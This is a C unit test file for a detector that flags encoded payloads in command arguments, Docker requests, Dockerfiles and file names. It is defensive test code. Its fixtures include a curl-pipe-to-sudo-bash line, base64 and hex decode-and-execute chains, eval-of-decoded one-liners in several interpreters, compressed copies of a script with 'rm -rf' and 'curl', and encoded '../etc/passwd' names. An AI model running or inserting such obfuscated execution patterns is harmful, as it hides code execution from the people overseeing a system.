/* test_encoded_payload.c: R2, each rule with a hit and the nearest miss; what is no encoded data.
 */
#include <stdio.h>
#include "codec.h"
#include "facts.h"
#include "payload.h"

#define TEXT   "the quick brown fox jumps over the lazy dog" /* 43 bytes */
#define SCRIPT "#!/bin/sh\nrm -rf /tmp/x\ncurl http://h/i\n"

enum form { HEX_ESC, OCTAL, UNICODE, PERCENT, HEX, BASE64 };

static char encoded[4][2048];

static const char *encode(const char *text, enum form form, int slot)
{
	static const char *const formats[] = { "\\x%02x", "\\%03o", "\\u%04x", "%%%02X", "%02x" };
	char *to = encoded[slot];

	if (form == BASE64) {
		struct buf b = { 0 };

		base64_encode(span_of(text), &b);
		snprintf(to, sizeof(encoded[0]), "%s", b.ptr);
		buf_free(&b);
		return to;
	}
	for (char *p = to; *text; text++)
		p += sprintf(p, formats[form], (unsigned char)*text);
	return to;
}

static void argued(const char *arg)
{
	exec_look(&detect_encoded_payload, process_new("tool", 0, ARGV("tool", arg)));
}

static void each_coding_is_found_from_33_bytes_on(void **s)
{
	char thirty_three[34] = "", thirty_two[33] = "";

	(void)s;
	memcpy(thirty_three, TEXT, 33);
	memcpy(thirty_two, TEXT, 32);
	for (int form = HEX_ESC; form <= BASE64; form++) {
		argued(encode(thirty_three, form, 0));
		check_hit("R2.1");
		check_miss("R2.2");
		argued(encode(thirty_two, form, 0));
		assert_int_equal(report.n, 0);
	}
}

static void plain_text_and_binary_data_are_nothing(void **s)
{
	char digits[200] = "";

	(void)s;
	argued(TEXT TEXT TEXT);
	assert_int_equal(report.n, 0);
	for (int i = 0; i < 50; i++)
		sprintf(digits + 2 * i, "%02x", i * 37 % 256);
	argued(digits);
	assert_int_equal(report.n, 0);
}

static void ids_digests_paths_and_tokens_are_no_payload(void **s)
{
	static const char *const args_of[] = {
		"d41d8cd98f00b204e9800998ecf8427e",
		"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318"
		"d2877eec2f63b931bd4"
		"7417a81a538327af927da3e",
		"01920000-0000-7000-8000-000000000001",
		"/usr/lib/x86_64-linux-gnu/python3/dist-packages/somewhere/verylongname/another",
		"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
		"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5"
		"MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
		"sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/"
		"SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
		"http://host/a%20b%20c?x=%7B%22a%22%3A1%7D",
	};

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(args_of); i++) {
		argued(args_of[i]);
		assert_int_equal(report.n, 0);
	}
}

static void a_certificate_is_no_payload(void **s)
{
	(void)s;
	argued(encode("-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2\nabc=\n-----END "
		      "CERTIFICATE-----\n",
		      BASE64, 0));
	assert_int_equal(report.n, 0);
	argued(encode("-----BEGIN CERTIFICATE-----\nrm -rf /tmp/x\n-----END CERTIFICATE-----\n",
		      BASE64, 0));
	check_hit("R2.1");
}

static void executable_content_is_worse(void **s)
{
	static const char elf[] =
		"\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0>\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
	struct buf b = { 0 };

	(void)s;
	for (int form = HEX_ESC; form <= BASE64; form++) {
		argued(encode(SCRIPT, form, 0));
		check_hit("R2.1");
		check_hit("R2.2");
	}
	argued(encode("#!/bin/sh\necho this is all that it does\n", BASE64, 0));
	check_hit("R2.1");
	check_miss("R2.2");
	argued(encode("curl -fsSL http://example.org/install | sudo bash", BASE64, 0));
	check_hit("R2.2");
	assert_non_null(strstr(found("R2.2")->evidence.ptr, "download"));
	argued(encode("curl is a nice program, and so are many others", BASE64, 0));
	check_hit("R2.1");
	check_miss("R2.2");
	base64_encode((struct span){ elf, sizeof(elf) }, &b);
	argued(b.ptr);
	check_hit("R2.2");
	b.ptr[0]++;
	argued(b.ptr);
	assert_int_equal(report.n, 0);
	buf_free(&b);
}

static void layers_do_not_hide_it(void **s)
{
	(void)s;
	encode(SCRIPT, BASE64, 0);
	encode(encoded[0], HEX, 1);
	encode(encoded[1], BASE64, 2);
	argued(encoded[2]);
	check_hit("R2.2");
	assert_non_null(strstr(found("R2.2")->evidence.ptr, "3 layers"));
	assert_non_null(strstr(found("R2.2")->subject.ptr, "base64"));
}

static void a_prefix_or_line_breaks_do_not_hide_it(void **s)
{
	char text[16384];

	(void)s;
	for (int i = 0; i < 4; i++) {
		snprintf(text, sizeof(text), "%.*s/%s", i, "abc", encode(SCRIPT, BASE64, 0));
		argued(text);
		check_hit("R2.2");
	}
	encode(SCRIPT SCRIPT SCRIPT, BASE64, 0);
	snprintf(text, sizeof(text), "%.64s\n%s", encoded[0], encoded[0] + 64);
	argued(text);
	check_hit("R2.2");
	snprintf(text, sizeof(text), "DATA=%s", encode(SCRIPT, BASE64, 0));
	argued(text);
	check_hit("R2.2");
}

static void a_preview_keeps_a_key_to_itself(void **s)
{
	(void)s;
	argued(encode("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIHhIDDEN\n-----END PRIVATE "
		      "KEY-----\n",
		      HEX_ESC, 0));
	check_hit("R2.1");
	assert_null(strstr(found("R2.1")->evidence.ptr, "HIDDEN"));
	assert_null(strstr(found("R2.1")->evidence.ptr, "HhID"));
	argued(encode("export DB_PASSWORD=correcthorse and more text here", HEX_ESC, 0));
	check_hit("R2.1");
	assert_null(strstr(found("R2.1")->evidence.ptr, "horse"));
}

static void dockerfile(const char *format, const char *text, enum form form)
{
	char file[16384];

	snprintf(file, sizeof(file), format, encode(text, form, 3));
	docker_look(&detect_encoded_payload, "/v1.43/build", NULL, NULL, file);
}

static void the_reviewed_scripts_dockerfile(void **s)
{
	(void)s;
	dockerfile(
		"FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 755 /post.py\n",
		TEXT, HEX_ESC);
	check_hit("R2.1");
	check_hit("R2.4");
	assert_string_equal(found("R2.4")->subject.ptr, "Dockerfile RUN: /post.py");
	dockerfile(
		"FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 644 /post.py\n",
		TEXT, HEX_ESC);
	check_hit("R2.1");
	check_miss("R2.4");
	dockerfile(
		"FROM ubuntu:18.04\nRUN echo \"'%s'\" | xargs echo -e > /post.py;chmod 755 /other\n",
		TEXT, HEX_ESC);
	check_miss("R2.4");
	dockerfile(
		"FROM ubuntu:18.04\nRUN echo \"plain text\" > /post.py;chmod 755 /post.py # %s\n",
		"x", HEX_ESC);
	assert_int_equal(report.n, 0);
	dockerfile("FROM ubuntu:18.04\n# RUN echo '%s' > /p;chmod 755 /p\n", TEXT, HEX_ESC);
	assert_int_equal(report.n, 0);
	dockerfile("FROM x\nRUN echo '%s' \\\n# remark\n > /p && \\\n chmod u+x /p\n", TEXT,
		   HEX_ESC);
	check_hit("R2.4");
	dockerfile("FROM x\nONBUILD RUN echo '%s' | base64 -d > /p && /p", TEXT, BASE64);
	check_hit("R2.4");
	dockerfile("FROM x\nRUN [\"sh\", \"-c\", \"echo %s | base64 -d > /p && sh /p\"]\n", TEXT,
		   BASE64);
	check_hit("R2.4");
}

static void container_given(const char *string)
{
	char body[1024];

	snprintf(body, sizeof(body), "{\"Cmd\":[\"sh\",\"-c\",\"%s\"]}", string);
	docker_look(&detect_encoded_payload, "/v1.43/containers/create", body, NULL, NULL);
}

static void a_string_decodes_into_a_file_and_executes_it(void **s)
{
	(void)s;
	container_given(
		"base64 -d < $W/e.dat > $W/art.sh; chmod +x $W/art.sh; $W/art.sh || sh $W/art.sh");
	check_hit("R2.4");
	container_given("base64 < $W/e.dat > $W/art.sh; chmod +x $W/art.sh");
	check_miss("R2.4");
	container_given("base64 -d < $W/e.dat > $W/art.sh; chmod a-x $W/art.sh");
	check_miss("R2.4");
	container_given("xxd -r -p e.hex | tee ./run; chmod u=rwx,go=r run");
	check_hit("R2.4");
	container_given("echo $(echo aWQ= | base64 -d) > /tmp/a; mv /tmp/a /tmp/b; bash -x /tmp/b");
	check_hit("R2.4");
	container_given("chmod +x a; base64 -d e > a");
	check_miss("R2.4");
}

/* On the host the processes and files of the run tell of all but what a shell does by itself. */
static void what_processes_tell_is_not_told_twice(void **s)
{
	static const char *const told[] = { "base64 -d e > a; chmod +x a",
					    "base64 -d e > a; sh a" };

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(told); i++) {
		exec_look(&detect_encoded_payload,
			  process_new("bash", ROLE_SHELL, ARGV("bash", "-c", told[i])));
		check_miss("R2.4");
	}
	exec_look(&detect_encoded_payload,
		  process_new("bash", ROLE_SHELL, ARGV("bash", "-c", "base64 -d e > a; . ./a")));
	check_hit("R2.4");
	exec_look(&detect_encoded_payload,
		  process_new("tool", 0, ARGV("tool", "-c", "base64 -d e > /a; . /a")));
	check_miss("R2.4");
}

static void a_one_liner_runs_what_it_decodes(void **s)
{
	static const struct {
		const char *program, *option, *hit, *miss;
	} cases[] = {
		{ "python3", "-c", "import base64;exec(base64.b64decode('aWQ='))",
		  "import base64;print(base64.b64decode('aWQ='))" },
		{ "python3", "-c", "x=bytes.fromhex('6964');import os;os.system(x.decode())",
		  "x=bytes.fromhex('6964');import os;os.system('id')" },
		{ "python3", "-c", "exec(''.join(chr(c) for c in [105,100]))",
		  "print(''.join(chr(c) for c in [105,100]))" },
		{ "perl", "-e", "eval decode_base64('aWQ=')", "eval { decode_base64('aWQ=') }" },
		{ "perl", "-e", "eval pack('H*','6964')", "print pack('H*','6964')" },
		{ "ruby", "-e", "eval('aWQ='.unpack1('m'))", "puts 'aWQ='.unpack1('m')" },
		{ "node", "-e", "eval(atob('aWQ='))", "/a/.exec(atob('aWQ='))" },
		{ "php", "-r", "$x=base64_decode('aWQ=');system($x);",
		  "$x=base64_decode('aWQ=');system($y);" },
	};

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		exec_look(&detect_encoded_payload,
			  process_new(cases[i].program, ROLE_INTERPRETER,
				      ARGV(cases[i].program, cases[i].option, cases[i].hit)));
		check_hit("R2.3");
		exec_look(&detect_encoded_payload,
			  process_new(cases[i].program, ROLE_INTERPRETER,
				      ARGV(cases[i].program, cases[i].option, cases[i].miss)));
		check_miss("R2.3");
	}
	/* A script's own operand is no program. */
	exec_look(&detect_encoded_payload,
		  process_new("python3", ROLE_INTERPRETER,
			      ARGV("python3", "x.py", "exec(b64decode('aWQ='))")));
	check_miss("R2.3");
}

static void other_codings_of_programs(void **s)
{
	struct buf b = { 0 };

	(void)s;
	/* base32 of SCRIPT-like text, by Python's own module */
	argued("EMQS6YTJNYXXG2AKOJWSALLSMYQC65DNOAXXQCTDOVZGYIDIOR2HAORPF5UC62IK");
	check_hit("R2.2");
	argued("EMQS6YTJNYXXG2AKOJWSALLSMYQC65DNOAXXQCTDOVZGYIDIOR2HAORPF5UC62I1");
	check_miss("R2.2");
	for (const char *p = SCRIPT; *p; p++)
		buf_fmt(&b, "%s0x%02x", b.len ? "," : "", *p);
	argued(b.ptr);
	check_hit("R2.2");
	buf_reset(&b);
	for (const char *p = SCRIPT; *p; p++)
		buf_fmt(&b, "%s%d", b.len ? ", " : "", *p);
	argued(b.ptr);
	check_hit("R2.2");
	/* Numbers that are text by chance, and no program. */
	buf_reset(&b);
	for (const char *p = TEXT; *p; p++)
		buf_fmt(&b, "%s%d", b.len ? ", " : "", *p);
	argued(b.ptr);
	assert_int_equal(report.n, 0);
	buf_reset(&b);
	for (const char *p = SCRIPT; *p; p++) {
		buf_byte(&b, *p);
		buf_byte(&b, 0);
	}
	{
		struct buf coded = { 0 };

		base64_encode((struct span){ b.ptr, b.len }, &coded);
		argued(coded.ptr);
		check_hit("R2.2");
		buf_free(&coded);
	}
	argued(encode("import os\nos.system('ls -l; id') # and so on", BASE64, 0));
	check_hit("R2.2");
	argued(encode("import os\nos.getpid('ls -l; id') # and so on", BASE64, 0));
	check_miss("R2.2");
	buf_free(&b);
}

static void filling_is_no_payload(void **s)
{
	(void)s;
	argued(encode("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", BASE64, 0));
	assert_int_equal(report.n, 0);
	argued(encode("=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-=-", HEX, 0));
	assert_int_equal(report.n, 0);
	argued(encode("0123456789012345678901234567890123456789012345678901", BASE64, 0));
	assert_int_equal(report.n, 0);
	argued(encode("                                                    ", PERCENT, 0));
	assert_int_equal(report.n, 0);
	/* The same length, not again and again. */
	argued(encode("0123456789 and abcdefghij and then zyxwv 98765 43210", BASE64, 0));
	check_hit("R2.1");
}

static void containers_execs_and_build_arguments_are_places(void **s)
{
	char body[16384];

	(void)s;
	snprintf(body, sizeof(body), "{\"Cmd\":[\"sh\",\"-c\",\"%s\"]}", encode(SCRIPT, BASE64, 0));
	docker_look(&detect_encoded_payload, "/v1.43/containers/create", body, NULL, NULL);
	assert_string_equal(found("R2.2")->subject.ptr, "base64 in a container command");
	docker_look(&detect_encoded_payload, "/v1.43/containers/abc/exec", body, NULL, NULL);
	assert_string_equal(found("R2.2")->subject.ptr, "base64 in an exec command");
	docker_look(&detect_encoded_payload, "/v1.43/containers/abc/start", body, NULL, NULL);
	assert_int_equal(report.n, 0);
	snprintf(body, sizeof(body), "{\"Labels\":{\"x\":\"%s\"}}", encoded[0]);
	docker_look(&detect_encoded_payload, "/v1.43/containers/create", body, NULL, NULL);
	assert_int_equal(report.n, 0);
	encode(SCRIPT, HEX, 0);
	snprintf(body, sizeof(body), "t=a&buildargs=%%7B%%22A%%22%%3A%%22%s%%22%%7D", encoded[0]);
	docker_look(&detect_encoded_payload, "/v1.43/build", NULL, body, NULL);
	assert_string_equal(found("R2.2")->subject.ptr, "hex digits in a build argument");
}

static void hostile_text_ends(void **s)
{
	static char big[120000];
	static const char *const patterns[] = { "$(",   "`",  "\\x4", "%4",   "eyJ.", "(", "a;",
						"QUFB", "\\", "<<",   "\"$(", "41",   "|" };
	struct fact f = { .kind = FACT_EXEC, .run = &run };

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(patterns); i++) {
		size_t n = strlen(patterns[i]);

		for (size_t k = 0; k + n < sizeof(big) - 1; k += n)
			memcpy(big + k, patterns[i], n + 1);
		process_new("sh", ROLE_SHELL, ARGV("sh", "-c"));
		f.process = &process;
		memcpy(big, "sh\0-c\0", 6);
		process.args = big;
		process.args_len = sizeof(big) - 1;
		process.argc = 3;
		report_reset(&report);
		detect_all(&f, &report);
		docker_look(&detect_encoded_payload, "/v1.43/build", NULL, NULL, big + 6);
	}
}

static void a_decoded_file_is_executed(void **s)
{
	struct written w = { .origins = ORIGIN_DECODER, .writer = (char *)"base64" };
	struct fact f = { .kind = FACT_EXEC, .run = &run };

	(void)s;
	f.process = process_new("a.sh", 0, ARGV("./a.sh"));
	process.exe.text = (char *)"/tmp/a.sh";
	f.exec.origin = &w;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_hit("R2.4");
	assert_string_equal(found("R2.4")->subject.ptr, "/tmp/a.sh");
	w.origins = ORIGIN_NETWORK;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_miss("R2.4");
	f = (struct fact){ .kind = FACT_SCRIPT, .run = &run, .process = &process };
	f.file.path.text = (char *)"/tmp/a.sh";
	f.file.origin = &w;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_miss("R2.4");
	w.origins = ORIGIN_DECODER;
	detect_encoded_payload.look(&f, &report);
	check_hit("R2.4");
}

static void a_decoded_file_is_made_executable(void **s)
{
	struct written w = { .origins = ORIGIN_DECODER, .writer = (char *)"base64" };
	struct fact f = { .kind = FACT_FILE, .run = &run, .process = &parent };

	(void)s;
	f.file.path.text = (char *)"/tmp/a.sh";
	f.file.origin = &w;
	f.file.action = FILE_CHMOD;
	f.file.mode = 0100755;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_hit("R2.4");
	f.file.mode = 0100644;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_miss("R2.4");
	f.file.mode = 0100755;
	f.file.action = FILE_CHOWN;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
	check_miss("R2.4");
}

static void a_program_has_an_odd_name(void **s)
{
	struct process *p = process_new("x", 0, ARGV("x"));

	(void)s;
	p->exe.text = (char *)"/a/x\033y";
	exec_look(&detect_encoded_payload, p);
	check_hit("R2.5");
	p->exe.text = (char *)"/a/xy";
	exec_look(&detect_encoded_payload, p);
	check_miss("R2.5");
	p->exe.text = (char *)"/memfd:x\033y"; /* its maker's own words, and R3.10 in any case */
	p->flags = EXEC_MEMFD;
	exec_look(&detect_encoded_payload, p);
	check_miss("R2.5");
}

static void object(enum docker_action action, const char *name)
{
	const struct docker_route route = { .action = action };
	struct fact f = { .kind = FACT_DOCKER, .run = &run, .process = &parent };

	f.docker.route = &route;
	f.docker.target = span_of(name);
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
}

static void an_object_gets_an_odd_name(void **s)
{
	static const enum docker_action names[] = { ACT_CONTAINER_CREATE, ACT_NETWORK_CREATE,
						    ACT_VOLUME_CREATE };

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		object(names[i], "2e2e2f2e2e2f6574632f706173737764");
		check_hit("R2.5");
		object(names[i], "web-1");
		check_miss("R2.5");
	}
	object(ACT_CONTAINER_INSPECT, "2e2e2f2e2e2f6574632f706173737764");
	check_miss("R2.5");
}

static void decoded_text_becomes_a_program(void **s)
{
	(void)s;
	docker_look(&detect_encoded_payload, "/build", NULL, NULL,
		    "FROM x\nRUN echo aWQK | base64 -d | sh\n");
	check_hit("R2.3");
	docker_look(&detect_encoded_payload, "/build", NULL, NULL,
		    "FROM x\nRUN echo aWQK | base64 -d > f\n");
	check_miss("R2.3");
	exec_look(&detect_encoded_payload,
		  process_new("sh", ROLE_SHELL,
			      ARGV("sh", "-c", "eval \"$(echo aWQK | base64 -d)\"")));
	check_hit("R2.3");
	exec_look(&detect_encoded_payload,
		  process_new("sh", ROLE_SHELL,
			      ARGV("sh", "-c",
				   "printf '\\x69\\x64\\x69\\x64\\x69\\x64\\x69\\x64' | sh")));
	check_hit("R2.3");
	/* base64 and sh will be executed, and joined there. */
	exec_look(&detect_encoded_payload,
		  process_new("sh", ROLE_SHELL, ARGV("sh", "-c", "echo aWQK | base64 -d | sh")));
	check_miss("R2.3");
}

/* gzip and xz of SCRIPT, gzip of its base64, of text and of neither; by Python's own modules. */
#define GZIP "H4sIAAAAAAACA1NW1E/KzNMvzuAqylXQLUpT0C/JLdCv4EouLcpRyCgpKbDS18/Qz+QCAD7vJb4oAAAA"
#define XZ                                                                                         \
	"/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAnIyEvYmluL3NoCnJtIC1yZiAvdG1wL3gKY3VybCBodHRwOi8vaC9pCgBDKj/CpncH9QABQCjUUkrlH7bzfQEAAAAABFla"
#define NESTED                                                                                     \
	"H4sIAAAAAAACA/OsdC2LzM0p9TH2y3fO8yrxdDasjMp0LEtxNyz3MU73jjQOq0xydspP8Qgq98+0KEt0tixwTre1BQAqho+vOAAAAA=="
#define GZTEXT                                                                                     \
	"H4sIAAAAAAACAyvJSFUoLM1MzlZIKsovz1NIy69QyCrNLShWyC9LLVIoAUrnJFZVKqTkp+uBeUQrBgAp21reWgAAAA=="
#define GZDATA                                                                                     \
	"H4sIAAAAAAACA2tobGpuaW1r7+js6u7p7eufMHHS5ClTp02fMXPW7Dlz581fsHDR4iVLly1fsXLV6jVr163fsHHT5i1bt23fsXPX7j179+0/cPDQ4SNHjx1voJI5AFxkUBKQAAAA"

static void compressed_data_is_looked_into(void **s)
{
	(void)s;
	argued(GZIP);
	check_hit("R2.2");
	assert_non_null(strstr(found("R2.2")->evidence.ptr, "2 layers"));
	argued(NESTED);
	check_hit("R2.2");
	assert_non_null(strstr(found("R2.2")->evidence.ptr, "3 layers"));
	argued(GZTEXT);
	check_hit("R2.1");
	check_miss("R2.2");
	argued(GZDATA);
	check_miss("R2.2");
#ifdef HAVE_LZMA
	argued(XZ);
	check_hit("R2.2");
#endif
}

static void opened(const char *path)
{
	struct fact f = { .kind = FACT_FILE, .run = &run, .process = &parent };

	f.file.path.text = (char *)path;
	report_reset(&report);
	detect_encoded_payload.look(&f, &report);
}

static void a_name_that_is_encoded_or_no_text(void **s)
{
	static const char *const odd[] = { "/a/x\ny",
					   "/a/\033[2Jx",
					   "/a/\xff\xfex1234567",
					   "/a/exe.\xe2\x80\xaegpj",
					   "/a/\xc2\x9b"
					   "31m",
					   "/a/2e2e2f6574632f",
					   "/a/%2e%2e%2fetc",
					   "/a/Li4vZXRjL3Bhc3N3ZA" };
	static const char *const plain[] = {
		"/a/x y",
		"/a/\xc3\xa4.txt",
		"/a/\xe2\x80\xafgpj",
		"/a/d41d8cd98f00b204e9800998ecf8427e",
		"/a/..x",
		"/a/100%",
		"/a/e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"/a/libfoo_1%3a2.0-1_amd64.deb",
		"/a/123e4567-e89b-12d3-a456-426614174000",
		"/\n/x",
		"/"
	};

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(odd); i++) {
		opened(odd[i]);
		check_hit("R2.5");
	}
	for (size_t i = 0; i < ARRAY_SIZE(plain); i++) {
		opened(plain[i]);
		check_miss("R2.5");
	}
	docker_look(&detect_encoded_payload, "/containers/create", "{}", "name=x", NULL);
	check_miss("R2.5");
}

static void a_masked_name_is_not_odd(void **s)
{
	char env[] = "X_TOKEN=borrowed-zebra", path[] = "/a/borrowed-zebra";

	(void)s;
	scrub_environment(&run.masker, env, sizeof(env));
	assert_int_equal(scrub_bytes(&run.masker, path, sizeof(path)), 1);
	opened(path);
	check_miss("R2.5");
}

static void a_preview_shows_no_secret(void **s)
{
	static const char *const texts[] = {
		"db_password=correct-horse-battery and more words here",
		"curl -H 'Authorization: Bearer abcdefghijklmnop' http://h/",
		"git clone https://me:correct-horse@h/x and so on"
	};

	(void)s;
	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		argued(encode(texts[i], BASE64, 0));
		check_hit("R2.1");
		assert_null(strstr(found("R2.1")->evidence.ptr, "horse"));
		assert_null(strstr(found("R2.1")->evidence.ptr, "abcdefgh"));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_coding_is_found_from_33_bytes_on),
		cmocka_unit_test(plain_text_and_binary_data_are_nothing),
		cmocka_unit_test(ids_digests_paths_and_tokens_are_no_payload),
		cmocka_unit_test(a_certificate_is_no_payload),
		cmocka_unit_test(executable_content_is_worse),
		cmocka_unit_test(layers_do_not_hide_it),
		cmocka_unit_test(a_prefix_or_line_breaks_do_not_hide_it),
		cmocka_unit_test(a_preview_keeps_a_key_to_itself),
		cmocka_unit_test(the_reviewed_scripts_dockerfile),
		cmocka_unit_test(a_string_decodes_into_a_file_and_executes_it),
		cmocka_unit_test(what_processes_tell_is_not_told_twice),
		cmocka_unit_test(a_one_liner_runs_what_it_decodes),
		cmocka_unit_test(other_codings_of_programs),
		cmocka_unit_test(filling_is_no_payload),
		cmocka_unit_test(containers_execs_and_build_arguments_are_places),
		cmocka_unit_test(hostile_text_ends),
		cmocka_unit_test(a_decoded_file_is_executed),
		cmocka_unit_test(a_decoded_file_is_made_executable),
		cmocka_unit_test(a_program_has_an_odd_name),
		cmocka_unit_test(an_object_gets_an_odd_name),
		cmocka_unit_test(decoded_text_becomes_a_program),
		cmocka_unit_test(compressed_data_is_looked_into),
		cmocka_unit_test(a_name_that_is_encoded_or_no_text),
		cmocka_unit_test(a_masked_name_is_not_odd),
		cmocka_unit_test(a_preview_shows_no_secret),
	};

	return FACT_TESTS(tests);
}
